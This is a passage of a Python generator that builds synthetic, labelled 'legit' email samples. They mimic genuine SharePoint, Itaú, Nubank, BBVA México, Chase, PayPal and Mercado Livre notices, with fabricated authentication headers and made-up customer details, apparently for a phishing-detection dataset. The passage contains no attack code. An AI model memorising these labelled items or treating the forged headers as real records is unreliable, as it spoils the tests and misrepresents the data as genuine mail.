        "Genuine Portuguese Microsoft account notice 'Novo aplicativo conectado' after the user added the Outlook mobile "
        "app; links only to account.live.com, all authentication passes",
        headers, Multi("alternative", f"--_{hx(seed + 'b', 8)}-{hx(seed + 'c', 4)}-{hx(seed + 'd', 4)}-{hx(seed + 'e', 4)}-{hx(seed + 'f', 12)}_",
                       [text(plain, "plain", "quoted-printable", "utf-8"), text(html, "html", "quoted-printable", "utf-8")]))


def l03():
    seed = "l03"
    t = at(2025, 9, 16, 14, 3, 28)
    rcpt = "dmorris@hartwell-logistics.com"
    frm = "no-reply@sharepointonline.com"
    link = (f"https://hartwelllogistics.sharepoint.com/:x:/s/Operations/E{aln(seed + 'sp', 45)}"
            f"?e={aln(seed + 'e', 6)}")
    ip = "40.107.220.64"
    helo = "NAM11-CO1-obe.outbound.protection.outlook.com"
    ptr = "mail-co1nam11on2064.outbound.protection.outlook.com"
    sender = "\n".join([
        fold(f"Received: from SJ0PR22MB{digits(seed + 'sj', 4)}.namprd22.prod.outlook.com (2603:10b6:a03:45b::19) by "
             f"CH3PR22MB{digits(seed + 'ch', 4)}.namprd22.prod.outlook.com (2603:10b6:610:1c2::4) with Microsoft SMTP "
             f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=2))}"),
        dkim("sharepointonline.com", "selector1", t,
             "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", seed),
        f"From: {addr('Priya Raman', frm)}",
        f"To: <{rcpt}>",
        f"Subject: {ew('Priya Raman shared “Q3 Carrier Scorecard” with you')}",
        f"Date: {rfc(t - timedelta(seconds=3))}",
        f"Message-ID: <{guid(seed + 'm1')}@odspnotify>",
        "X-MS-Exchange-SenderADCheck: 1",
        "X-MS-Exchange-Organization-SharingNotification: 1",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;padding:0">
<div style="font-family:'Segoe UI','Segoe UI Web (West European)',-apple-system,BlinkMacSystemFont,Roboto,'Helvetica Neue',sans-serif;max-width:536px;margin:0 auto">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px 24px 0 24px">
<table role="presentation" cellpadding="0" cellspacing="0"><tr>
<td style="width:40px;height:40px;border-radius:50%;background:#038387;color:#fff;text-align:center;font-size:15px;font-weight:600">PR</td>
<td style="padding-left:12px;font-size:21px;color:#242424">Priya Raman shared a file with you</td></tr></table>
</td></tr>
<tr><td style="padding:20px 24px 0 24px;font-size:14px;color:#242424">Dana - here's the scorecard for Thursday's carrier review. Tabs 2 and 3 still need the September on-time numbers.</td></tr>
<tr><td style="padding:20px 24px">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="border:1px solid #e0e0e0;border-radius:4px"><tr>
<td style="padding:12px;width:32px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/xlsx.png" width="32" height="32" alt="Excel"></td>
<td style="padding:12px 12px 12px 0;font-size:14px;font-weight:600;color:#242424">Q3 Carrier Scorecard</td></tr></table>
<p style="margin:6px 0 0 0;font-size:12px;color:#616161">This link only works for the direct recipients of this message.</p>
</td></tr>
<tr><td style="padding:0 24px 24px 24px"><a href="{link}" style="display:inline-block;background:#0f6cbd;color:#ffffff;font-size:14px;font-weight:600;padding:8px 16px;border-radius:4px;text-decoration:none">Open</a></td></tr>
<tr><td style="padding:16px 24px;border-top:1px solid #e0e0e0;font-size:12px;color:#616161">
<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/brand-icons/product/png/sharepoint_48x1.png" width="16" height="16" alt=""> Hartwell Logistics, Inc.<br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Privacy Statement</a></td></tr>
</table></div>
</body>""")
    plain = f"""Priya Raman shared a file with you

Dana - here's the scorecard for Thursday's carrier review. Tabs 2 and 3 still need the September on-time numbers.

Q3 Carrier Scorecard
This link only works for the direct recipients of this message.

Open: {link}

Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, helo,
                         Auth("no-reply@sharepointonline.com", "pass", "sharepointonline.com", "pass",
                              "sharepointonline.com", "pass", "selector1"),
                         sender, tenant="hartwell")
    add("b35-legit-sharepoint-share-colleague", "legit", "clean",
        "Genuine SharePoint share from a colleague in the same company tenant (hartwelllogistics.sharepoint.com, "
        "specific-people link) with a personal note about a carrier scorecard",
        headers, alt(plain, html, f"_000_{guid(seed + 'b')}_"))


def l04():
    seed = "l04"
    t = at(2025, 5, 2, 11, 8, 40)
    rcpt = "joaopaulo.lima77@gmail.com"
    frm = "itaucartoes@comunicacao.itau.com.br"
    envfrom = f"bounce-{digits(seed + 'b', 4)}_HTML-{digits(seed + 'c', 9)}-{digits(seed + 'd', 7)}-{digits(seed + 'e', 8)}-{digits(seed + 'f', 3)}@bounce.comunicacao.itau.com.br"
    clk = lambda n: f"https://click.comunicacao.itau.com.br/?qs={hx(seed + 'q' + n, 192)}"  # noqa: E731
    ip = "13.111.52.18"
    ptr = "mta.comunicacao.itau.com.br"
    sender = "\n".join([
        dkim("comunicacao.itau.com.br", "200608", t, "From:To:Subject:Date:MIME-Version:List-Unsubscribe:Content-Type:"
             "Message-ID:Reply-To:List-ID:X-CSA-Complaints:List-Unsubscribe-Post", seed),
        f"Received: by mta.comunicacao.itau.com.br id {hx(seed + 'rid', 14)} for <{rcpt}>; {rfc(t - timedelta(seconds=1), -360)} (envelope-from <{envfrom}>)",
        f"From: {addr('Itaú Cartões', frm)}",
        f"To: <{rcpt}>",
        f"Subject: {ew('João Paulo, a fatura do seu cartão Itaú Uniclass chegou')}",
        f"Date: {rfc(t - timedelta(seconds=1), -360)}",
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <{clk('u')}>, <mailto:leave-{hx(seed + 'l', 60)}@leave.comunicacao.itau.com.br>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Reply-To: {addr('Itaú Cartões', 'reply-' + hx(seed + 'rp', 20) + '@reply.comunicacao.itau.com.br')}",
        f"List-ID: <{digits(seed + 'li', 10)}.xt.local>",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"x-job: {digits(seed + 'j', 7)}_{digits(seed + 'k', 7)}",
        f"Message-ID: <{guid(seed + 'mid')}@ind1s06mta{digits(seed + 'mt', 4)}.xt.local>",
        f"Feedback-ID: {digits(seed + 'fb', 7)}:{digits(seed + 'fc', 7)}:13.111.52.18:sfmktgcld",
    ])
    html = html_page(f"""<body style="margin:0;background:#f4f0ed">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif"><tr><td align="center" style="padding:16px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#ec7000;padding:16px 24px"><img src="https://image.comunicacao.itau.com.br/lib/fe3011727164047a711d72/m/1/logo-itau-branco.png" width="46" height="46" alt="Itaú"></td></tr>
<tr><td style="padding:26px 24px 6px 24px;font-size:20px;color:#3d3d3d"><b>João Paulo, sua fatura chegou</b></td></tr>
<tr><td style="padding:6px 24px;font-size:15px;color:#3d3d3d;line-height:23px">
<table width="100%" cellpadding="8" style="font-size:15px;border:1px solid #e6e1dd">
<tr><td>Cartão</td><td align="right">Itaú Uniclass Mastercard Black final 4418</td></tr>
<tr><td>Valor total</td><td align="right"><b>R$ 1.284,37</b></td></tr>
<tr><td>Vencimento</td><td align="right"><b>10/05/2025</b></td></tr>
<tr><td>Pagamento mínimo</td><td align="right">R$ 192,66</td></tr>
</table>
<p>Você pode ver os detalhes e pagar sua fatura com Pix ou boleto pelo app Itaú ou no Internet Banking.</p>
</td></tr>
<tr><td style="padding:6px 24px 26px 24px"><a href="{clk('1')}" style="display:inline-block;background:#ec7000;color:#ffffff;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:bold">Ver fatura no app</a></td></tr>
<tr><td style="padding:18px 24px;background:#f4f0ed;font-size:11px;color:#767676;line-height:16px">
<b>Segurança:</b> o Itaú não envia e-mails pedindo senhas, token ou dados do cartão, nem solicita atualização cadastral por link.<br>
Central de atendimento Itaú Uniclass: 3003 4828 (capitais) / 0800 970 4828 (demais localidades).<br>
Itaú Unibanco S.A. - CNPJ 60.701.190/0001-04. Para não receber mais estes e-mails, <a href="{clk('u')}" style="color:#767676">clique aqui</a>.</td></tr>
</table></td></tr></table>
<img src="https://click.comunicacao.itau.com.br/open.aspx?ffcb10-{hx(seed + 'op', 50)}" width="1" height="1" alt="">
</body>""", lang="pt-BR")
    plain = f"""João Paulo, sua fatura chegou

Cartão: Itaú Uniclass Mastercard Black final 4418
Valor total: R$ 1.284,37
Vencimento: 10/05/2025
Pagamento mínimo: R$ 192,66

Você pode ver os detalhes e pagar sua fatura com Pix ou boleto pelo app Itaú ou no Internet Banking.

Segurança: o Itaú não envia e-mails pedindo senhas, token ou dados do cartão.
"""
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(envfrom, "pass", "comunicacao.itau.com.br", "pass", "comunicacao.itau.com.br", "pass", "200608",
                            policy_="p=REJECT sp=REJECT dis=NONE"), sender)
    add("b35-legit-itau-fatura", "legit", "bulk",
        "Genuine Itaú card statement notice sent through Salesforce Marketing Cloud from comunicacao.itau.com.br "
        "(SPF/DKIM/DMARC pass), click-tracked links, security disclaimer, one-click unsubscribe",
        headers, Multi("alternative", f"----={hx(seed + 'bd', 8)}-{hx(seed + 'be', 4)}", [text(plain, "plain"), text(html, "html")]))


def l05():
    seed = "l05"
    t = at(2025, 7, 8, 9, 31, 12)
    rcpt = "marcos.vinicius.rj@hotmail.com"
    frm = "todomundo@nubank.com.br"
    ses_id = f"010001979{hx(seed + 's1', 7)}-{guid(seed + 's2')}-000000"
    envfrom = f"{ses_id}@mail.nubank.com.br"
    ip = "54.240.27.18"
    ptr = "a27-18.smtp-out.us-west-2.amazonses.com"
    sender = "\n".join([
        dkim("nubank.com.br", "nu2023", t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:List-Unsubscribe",
             seed + "1"),
        dkim("amazonses.com", "hsbnp7p3ensaochzwyq5wwmceodymuwv", t,
             "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:List-Unsubscribe:Feedback-ID", seed + "2", bits=1024),
        f"From: {addr('Nubank', frm)}",
        f"To: {rcpt}",
        "Subject: Sua fatura fechou",
        f"Message-ID: <{ses_id}@us-west-2.amazonses.com>",
        f"Date: {rfc(t - timedelta(seconds=1))}",
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <https://nubank.com.br/unsubscribe?token={b64url(seed + 'un', 48)}>",
        f"Feedback-ID: ::1.us-west-2.{b64(seed + 'fb', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {t:%Y.%m.%d}-{ip}",
    ])
    html = html_page("""<body style="margin:0;background:#f5f5f5">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Graphik,Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:24px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:16px">
<tr><td style="padding:28px 32px 0 32px"><span style="color:#820ad1;font-size:26px;font-weight:bold">nu</span></td></tr>
<tr><td style="padding:20px 32px 0 32px;font-size:22px;color:#111;font-weight:600">Sua fatura fechou</td></tr>
<tr><td style="padding:12px 32px;font-size:15px;color:#444;line-height:23px">
<p>Oi, Marcos!</p>
<p>A fatura do seu cartão de crédito fechou no valor de <b>R$ 643,18</b> e vence em <b>15 de julho</b>.</p>
<p>Para ver os detalhes e pagar, é só abrir o app do Nubank e tocar em <b>Cartão de crédito</b>. Se o débito automático estiver ativo, o valor será debitado da sua conta na data do vencimento.</p>
<p style="font-size:13px;color:#777">Lembre-se: o Nubank nunca liga nem envia mensagens pedindo sua senha, código de segurança ou para você fazer um Pix de teste.</p>
</td></tr>
<tr><td style="padding:16px 32px 28px 32px;font-size:11px;color:#999">Nu Pagamentos S.A. - Instituição de Pagamento. CNPJ 18.236.120/0001-58. Rua Capote Valente, 120 - São Paulo, SP.<br>
Ouvidoria: 0800 887 0463. Você recebeu este e-mail porque é cliente Nubank.</td></tr>
</table></td></tr></table>
</body>""", lang="pt-BR")
    plain = """Sua fatura fechou

Oi, Marcos!

A fatura do seu cartão de crédito fechou no valor de R$ 643,18 e vence em 15 de julho.

Para ver os detalhes e pagar, é só abrir o app do Nubank e tocar em Cartão de crédito.

Lembre-se: o Nubank nunca liga nem envia mensagens pedindo sua senha ou código de segurança.

Nu Pagamentos S.A. - Instituição de Pagamento. CNPJ 18.236.120/0001-58.
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "nubank.com.br", "pass", "nubank.com.br", "pass", "nu2023"),
                         sender, lang="pt", bulk=False)
    add("b35-legit-nubank-fatura-fechou", "legit", "bulk",
        "Genuine Nubank 'Sua fatura fechou' card-statement notice via Amazon SES with nubank.com.br DKIM and custom "
        "MAIL FROM (DMARC pass); no links except unsubscribe, tells the customer to use the app",
        headers, Multi("alternative", hx(seed + "bd", 32), [text(plain, "plain"), text(html, "html")]))


def l06():
    seed = "l06"
    t = at(2025, 10, 4, 2, 16, 55)
    rcpt = "carlos.mendoza.mx@outlook.com"
    frm = "alertas@notificaciones.bbva.mx"
    ip = "200.57.128.41"
    ptr = "mail41.notificaciones.bbva.mx"
    sender = "\n".join([
        dkim("notificaciones.bbva.mx", "bbvamx1", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", seed),
        f"Received: from ngcb-notif-03 (10.128.40.17) by mail41.notificaciones.bbva.mx with ESMTP; {rfc(t - timedelta(seconds=1), -360)}",
        f"From: {addr('BBVA México', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Notificación de compra con tu Tarjeta de Crédito BBVA *4713')}",
        f"Date: {rfc(t - timedelta(seconds=1), -360)}",
        f"Message-ID: <{digits(seed + 'm', 13)}.{digits(seed + 'n', 6)}.JavaMail.notif@ngcb-notif-03>",
        "MIME-Version: 1.0",
    ])
    html = html_page("""<body style="margin:0;background:#f4f4f4">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#072146;padding:18px 30px;color:#ffffff;font-size:24px;font-weight:bold;letter-spacing:1px">BBVA</td></tr>
<tr><td style="padding:28px 30px 8px 30px;font-size:20px;color:#121212">Compra con tarjeta de crédito</td></tr>
<tr><td style="padding:0 30px;font-size:14px;color:#121212;line-height:22px">
<p>Hola CARLOS,</p>
<p>Te informamos que se realizó una compra con tu Tarjeta de Crédito BBVA con terminación <b>*4713</b>:</p>
<table cellpadding="6" style="font-size:14px;background:#f4f4f4;width:100%">
<tr><td>Comercio:</td><td><b>WALMART EXPRESS CUAUHTEMOC</b></td></tr>
<tr><td>Importe:</td><td><b>$1,245.50 MXN</b></td></tr>
<tr><td>Fecha y hora:</td><td>03/10/2025 20:16:41</td></tr>
<tr><td>Autorización:</td><td>784512</td></tr>
</table>
<p>Si no reconoces este movimiento, ingresa a tu app BBVA México en la sección <b>Ayuda &gt; Aclaraciones</b> o comunícate a Línea BBVA al 55 5226 2663.</p>
<p style="font-size:12px;color:#666">BBVA nunca te pedirá por correo, SMS o llamada tus contraseñas, NIP, token o códigos de seguridad.</p>
</td></tr>
<tr><td style="background:#f4f4f4;padding:18px 30px;font-size:11px;color:#666;margin-top:20px">BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México. Av. Paseo de la Reforma 510, Col. Juárez, C.P. 06600, CDMX.<br>
Este correo es informativo, por favor no respondas a esta dirección. Consulta nuestro Aviso de Privacidad en www.bbva.mx.</td></tr>
</table></td></tr></table>
</body>""", lang="es-MX")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "notificaciones.bbva.mx", "pass", "notificaciones.bbva.mx", "pass", "bbvamx1"),
                         sender, lang="es", ctry="MX")
    add("b35-legit-bbva-mx-compra", "legit", "bulk",
        "Genuine BBVA México purchase alert (Walmart Express $1,245.50) from notificaciones.bbva.mx with passing "
        "authentication; no links, points to the app and the official Línea BBVA number for disputes",
        headers, text(html, "html"))


def l07():
    seed = "l07"
    t = at(2024, 11, 2, 14, 5, 20)
    rcpt = "daniel.okafor@outlook.com"
    frm = "no.reply.alerts@chase.com"
    ip = "159.53.110.46"
    ptr = "mail46.chase.com"
    sender = "\n".join([
        dkim("chase.com", "d4815", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", seed),
        f"Received: from vsin80p{digits(seed + 'v', 4)}.svr.us.jpmchase.net (10.70.{digits(seed + 'a', 2)}.{digits(seed + 'b', 2)}) by "
        f"mail46.chase.com with ESMTP; {rfc(t - timedelta(seconds=1), -240)}",
        f"Date: {rfc(t - timedelta(seconds=1), -240)}",
        f"From: {addr('Chase', frm)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(seed + 'm', 10)}.{digits(seed + 'n', 8)}.{epoch(t)}{digits(seed + 'o', 3)}@vsin80p{digits(seed + 'v', 4)}.svr.us.jpmchase.net>",
        "Subject: Your credit card payment is scheduled",
        "MIME-Version: 1.0",
    ])
    html = html_page("""<body style="margin:0;background:#f6f6f6">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif"><tr><td align="center" style="padding:20px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:20px 24px;border-bottom:1px solid #e5e5e5"><img src="https://www.chase.com/content/dam/chaseonline/en/alerts/ondemand/eventdriven/mol/images/chaseNew.gif" width="104" height="20" alt="Chase"></td></tr>
<tr><td style="padding:24px;font-size:22px;color:#414042">Your credit card payment is scheduled</td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:14px;color:#414042;line-height:21px">
<table width="100%" cellpadding="8" style="font-size:14px;border-top:1px solid #e5e5e5">
<tr><td style="border-bottom:1px solid #e5e5e5">Account</td><td align="right" style="border-bottom:1px solid #e5e5e5">Freedom Unlimited (...8842)</td></tr>
<tr><td style="border-bottom:1px solid #e5e5e5">Payment amount</td><td align="right" style="border-bottom:1px solid #e5e5e5">$412.60</td></tr>
<tr><td style="border-bottom:1px solid #e5e5e5">Pay from</td><td align="right" style="border-bottom:1px solid #e5e5e5">TOTAL CHECKING (...3307)</td></tr>
<tr><td style="border-bottom:1px solid #e5e5e5">Scheduled date</td><td align="right" style="border-bottom:1px solid #e5e5e5">Nov 08, 2024</td></tr>
</table>
<p>You can see your payment activity when you sign in to chase.com or the Chase Mobile&reg; app.</p>
<p style="font-size:12px;color:#717171">Securely access your accounts with the <a href="https://www.chase.com/digital/mobile-banking" style="color:#005eb8">Chase Mobile&reg; app</a> or <a href="https://www.chase.com" style="color:#005eb8">chase.com</a>.</p>
</td></tr>
<tr><td style="padding:18px 24px;background:#f6f6f6;font-size:11px;color:#717171;line-height:16px">
ABOUT THIS MESSAGE<br>You're getting this alert because you scheduled a payment. This service email gives you updates and information about your Chase relationship.
Chase Privacy Operations, PO Box 659752, San Antonio, TX 78265-9752<br>JPMorgan Chase Bank, N.A. Member FDIC &copy;2024 JPMorgan Chase &amp; Co.</td></tr>
</table></td></tr></table>
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "chase.com", "pass", "chase.com", "pass", "d4815"), sender)
    add("b35-legit-chase-payment-scheduled", "legit", "bulk",
        "Genuine Chase 'credit card payment is scheduled' alert from no.reply.alerts@chase.com (SPF/DKIM/DMARC pass), "
        "masked account numbers, links only to chase.com",
        headers, text(html, "html", "quoted-printable", "us-ascii"))


def l08():
    seed = "l08"
    t = at(2025, 8, 18, 17, 40, 2)
    rcpt = "andrea.salinas.gdl@gmail.com"
    frm = "service@intl.paypal.com"
    ip = "173.0.84.225"
    ptr = "mx14.slc.paypal.com"
    tx = aln(seed + "tx", 17, UPNUM)
    sender = "\n".join([
        dkim("intl.paypal.com", "pp-dkim1", t, "Date:Message-Id:PP-Correlation-Id:Subject:To:From:MIME-Version:Content-Type",
             seed),
        f"Received: from ccg01mail02.ccg01.paypal.com (10.74.{digits(seed + 'q', 2)}.{digits(seed + 'r', 2)}) by "
        f"mx14.slc.paypal.com (Postfix) with ESMTP id {hx(seed + 'qid', 10, True)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=2), -420)}",
        f"Date: {rfc(t - timedelta(seconds=2), -420)}",
        f"Message-Id: <{hx(seed + 'mi', 13)}.{epoch(t)}{digits(seed + 'md', 3)}@intl.paypal.com>",
        f"PP-Correlation-Id: {hx(seed + 'cor', 13)}",
        f"Subject: {ew('Recibo de tu pago a Spotify México')}",
        f"To: {addr('Andrea Salinas', rcpt)}",
        f"From: {addr('service@intl.paypal.com', frm)}",
        "X-Email-Type-Id: PPC000628",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;background:#f5f7fa">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'PayPal Open','Helvetica Neue',Arial,sans-serif"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:12px">
<tr><td style="padding:28px 40px 8px 40px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="44" height="44" alt="PayPal"></td></tr>
<tr><td style="padding:10px 40px;font-size:14px;color:#001435">Hola, Andrea Salinas:</td></tr>
<tr><td style="padding:0 40px;font-size:26px;color:#001435;font-weight:bold">Pagaste $129.00 MXN a Spotify México</td></tr>
<tr><td style="padding:16px 40px;font-size:14px;color:#001435;line-height:21px">
<table width="100%" cellpadding="6" style="font-size:14px">
<tr><td style="color:#545d68">Id. de transacción</td><td align="right"><a href="https://www.paypal.com/myaccount/activity/payment/{tx}" style="color:#0070e0">{tx}</a></td></tr>
<tr><td style="color:#545d68">Fecha de la transacción</td><td align="right">18 de agosto de 2025</td></tr>
<tr><td style="color:#545d68">Spotify Premium Individual</td><td align="right">$129.00 MXN</td></tr>
<tr><td style="color:#545d68">Pagado con</td><td align="right">Saldo de PayPal / Visa x-2291</td></tr>
</table>
<p>Este es un pago automático de una suscripción que autorizaste. Puedes administrar tus pagos automáticos en la configuración de tu cuenta.</p>
</td></tr>
<tr><td style="padding:20px 40px;font-size:12px;color:#545d68;border-top:1px solid #e6e9eb">¿Tienes alguna pregunta? Visita el <a href="https://www.paypal.com/mx/cshelp/personal" style="color:#0070e0">Centro de ayuda</a>.<br><br>
PayPal está comprometido con la prevención de correos electrónicos fraudulentos. Los correos electrónicos de PayPal siempre incluyen tu nombre y apellido.<br>
PayPal México S. de R.L. de C.V. &copy; 1999-2025 PayPal. Todos los derechos reservados.<br>PayPal PPC000628:{hx(seed + 'pp', 12)}</td></tr>
</table></td></tr></table>
</body>""", lang="es-MX")
    plain = f"""Hola, Andrea Salinas:

Pagaste $129.00 MXN a Spotify México

Id. de transacción: {tx}
Fecha de la transacción: 18 de agosto de 2025
Spotify Premium Individual: $129.00 MXN
Pagado con: Saldo de PayPal / Visa x-2291

Este es un pago automático de una suscripción que autorizaste.

PayPal PPC000628:{hx(seed + 'pp', 12)}
"""
    body = Multi("alternative", f"--=_{hx(seed + 'bd', 24)}", [text(plain, "plain", "quoted-printable", "UTF-8"),
                                                              text(html, "html", "quoted-printable", "UTF-8")])
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(frm, "pass", "intl.paypal.com", "pass", "intl.paypal.com", "pass", "pp-dkim1",
                            policy_="p=REJECT sp=REJECT dis=NONE"), sender)
    add("b35-legit-paypal-recibo-spotify", "legit", "bulk",
        "Genuine PayPal México receipt for a Spotify Premium automatic payment from service@intl.paypal.com "
        "(all auth passes), addressed by full name, links only to paypal.com",
        headers, body)


def l09():
    seed = "l09"
    t = at(2025, 3, 19, 20, 14, 33)
    rcpt = "fernandasantos.bh@gmail.com"
    frm = "info@e.mercadolivre.com.br"
    envfrom = f"bounce-{digits(seed + 'b', 6)}-{digits(seed + 'c', 9)}@e.mercadolivre.com.br"
    ip = "52.20.185.64"
    ptr = "mta64.e.mercadolivre.com.br"
    clk = lambda n: f"https://click.e.mercadolivre.com.br/ls/click?upn={b64url(seed + 'c' + n, 140)}"  # noqa: E731
    sender = "\n".join([
        dkim("e.mercadolivre.com.br", "ml2", t, "From:To:Subject:Date:Message-ID:MIME-Version:List-Unsubscribe:"
             "List-Unsubscribe-Post:Content-Type", seed),
        f"From: {addr('Mercado Livre', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Seu pacote chega amanhã! 📦')}",
        f"Date: {rfc(t - timedelta(seconds=1), 0)}",
        f"Message-ID: <{hx(seed + 'm', 24)}.{digits(seed + 'n', 10)}@e.mercadolivre.com.br>",
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <{clk('u')}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"X-ML-Campaign: shipping_notification_{digits(seed + 'camp', 6)}",
    ])
    html = html_page(f"""<body style="margin:0;background:#ededed">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Proxima Nova',Arial,sans-serif"><tr><td align="center" style="padding:16px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:6px">
<tr><td style="background:#ffe600;padding:16px 24px;border-radius:6px 6px 0 0"><img src="https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.73/mercadolibre/logo_large_25years@2x.png" width="134" height="34" alt="Mercado Livre"></td></tr>
<tr><td style="padding:24px;font-size:22px;color:#333;font-weight:600">Fernanda, seu pacote chega amanhã</td></tr>
<tr><td style="padding:0 24px;font-size:15px;color:#666;line-height:22px">
<table width="100%" cellpadding="8" style="border:1px solid #eee;border-radius:6px"><tr>
<td width="80"><img src="https://http2.mlstatic.com/D_Q_NP_2X_829156-MLA74639104588_022024-R.webp" width="70" height="70" alt=""></td>
<td style="font-size:14px;color:#333">Fone de Ouvido Bluetooth JBL Tune 520BT Preto<br><span style="color:#00a650">Chega amanhã, quinta-feira</span></td></tr></table>
<p>O pacote foi despachado pelo Mercado Envios Full e será entregue no endereço Rua dos Timbiras, 1560 - Belo Horizonte.</p>
</td></tr>
<tr><td style="padding:18px 24px 26px 24px"><a href="{clk('1')}" style="display:inline-block;background:#3483fa;color:#ffffff;padding:12px 28px;border-radius:6px;text-decoration:none;font-weight:600">Acompanhar compra</a></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#999;border-top:1px solid #eee">Você recebeu este e-mail porque fez uma compra no Mercado Livre. <a href="{clk('u')}" style="color:#999">Preferências de e-mail</a><br>
Ebazar.com.br Ltda. - CNPJ 03.007.331/0001-41 - Av. das Nações Unidas, 3.003 - Osasco/SP</td></tr>
</table></td></tr></table>
<img src="https://click.e.mercadolivre.com.br/wf/open?upn={b64url(seed + 'op', 100)}" width="1" height="1" alt="">
</body>""", lang="pt-BR")
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(envfrom, "pass", "e.mercadolivre.com.br", "pass", "e.mercadolivre.com.br", "pass", "ml2",
                            policy_="p=REJECT sp=REJECT dis=NONE"), sender)
    add("b35-legit-mercadolivre-pacote", "legit", "bulk",
        "Genuine Mercado Livre 'seu pacote chega amanhã' shipping notice for a real order, from e.mercadolivre.com.br "
        "with passing auth, click-tracked links and an open pixel",
        headers, text(html, "html"))


def l10():
    seed = "l10"
    t = at(2025, 1, 8, 13, 2, 47)
    rcpt = "mike.hollister55@gmail.com"
    frm = "USPSInformeddelivery@email.informeddelivery.usps.com"
    envfrom = f"bounce-{digits(seed + 'b', 5)}_HTML-{digits(seed + 'c', 9)}-{digits(seed + 'd', 6)}-{digits(seed + 'e', 7)}-{digits(seed + 'f', 2)}@bounce.email.informeddelivery.usps.com"
    ip = "13.111.176.84"
    ptr = "mta.email.informeddelivery.usps.com"
    clk = lambda n: f"https://click.email.informeddelivery.usps.com/?qs={hx(seed + 'q' + n, 192)}"  # noqa: E731
    sender = "\n".join([
        dkim("email.informeddelivery.usps.com", "200608", t, "From:To:Subject:Date:MIME-Version:List-Unsubscribe:"
             "Content-Type:Message-ID:Reply-To:List-ID:X-CSA-Complaints:List-Unsubscribe-Post", seed),
        f"Received: by mta.email.informeddelivery.usps.com id {hx(seed + 'rid', 14)} for <{rcpt}>; {rfc(t - timedelta(seconds=1), -360)} (envelope-from <{envfrom}>)",
        f"From: {addr('USPS Informed Delivery', frm)}",
        f"To: <{rcpt}>",
        "Subject: Your Daily Digest for Wed, 1/8 is ready to view",
        f"Date: {rfc(t - timedelta(seconds=1), -360)}",
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <{clk('u')}>, <mailto:leave-{hx(seed + 'l', 60)}@leave.email.informeddelivery.usps.com>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Reply-To: {addr('USPS Informed Delivery', 'reply-' + hx(seed + 'rp', 20) + '@reply.email.informeddelivery.usps.com')}",
        f"List-ID: <{digits(seed + 'li', 10)}.xt.local>",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"Message-ID: <{guid(seed + 'mid')}@iad4s13mta{digits(seed + 'mt', 4)}.xt.local>",
        f"Feedback-ID: {digits(seed + 'fb', 7)}:{digits(seed + 'fc', 7)}:13.111.176.84:sfmktgcld",
    ])
    html = html_page(f"""<body style="margin:0;background:#ffffff;font-family:Helvetica,Arial,sans-serif">
<table width="620" align="center" cellpadding="0" cellspacing="0">
